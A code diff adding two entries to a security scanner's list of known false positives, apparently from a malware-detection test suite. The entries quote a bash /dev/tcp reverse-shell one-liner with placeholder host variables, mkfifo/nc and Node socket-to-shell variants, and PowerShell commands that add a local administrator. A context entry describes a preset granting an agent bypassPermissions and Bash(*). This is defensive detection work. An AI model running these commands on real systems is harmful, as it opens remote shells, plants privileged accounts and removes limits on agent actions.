@@ -155,6 +155,14 @@ const KNOWN_MISSES: &[(&str, &str)] = &[
 /// Benign look-alikes the scanner is known to block, and why.
 const KNOWN_FALSE_POSITIVES: &[(&str, &str)] = &[
     (
+        "revshell-payload-lab-ok-b51",
+        "batch 51: a payload generator prints reverse-shell one-liners (`bash -i >& /dev/tcp/${lhost}/${lport} 0>&1`, a `pty.spawn` one-liner, `mkfifo` + `nc`) as template strings for the listener the user names; `reverse-shell` reads the one-liner wherever it stands in a script, and a template variable for the host is not told from one the script sets to the author's address (the review of fp24 took back `$lhost`-style placeholders for that reason); its malicious twin prints the same lines and also pipes `net.connect` into `spawn('/bin/sh')`, which `socket-shell` blocks alone",
+    ),
+    (
+        "purple-team-persistence-ok-b51",
+        "batch 51: a defenders' `references/` page shows T1136's `New-LocalUser` + `Add-LocalGroupMember … Administrators` in a code block (lab only, with its `Remove-LocalUser` cleanup, the events to expect and a Sigma rule); `account-change` blocks an admin-group join in any code, and a page that documents the technique is not told from a script that runs it by the block alone (its malicious twin's script creates a hidden admin with RDP on and leaves it)",
+    ),
+    (
         "team-agent-preset-ok-b47",
         "batch 47: a script merges a team preset into `~/.claude/settings.json` after the user's yes, the preset pre-approving only test and lint; `agent-file-rewrite` blocks any write of an agent's global settings from a variable path, and the scan does not follow which data file's content the write merges (its malicious twin merges `bypassPermissions` + `Bash(*)` with the same script)",
     ),
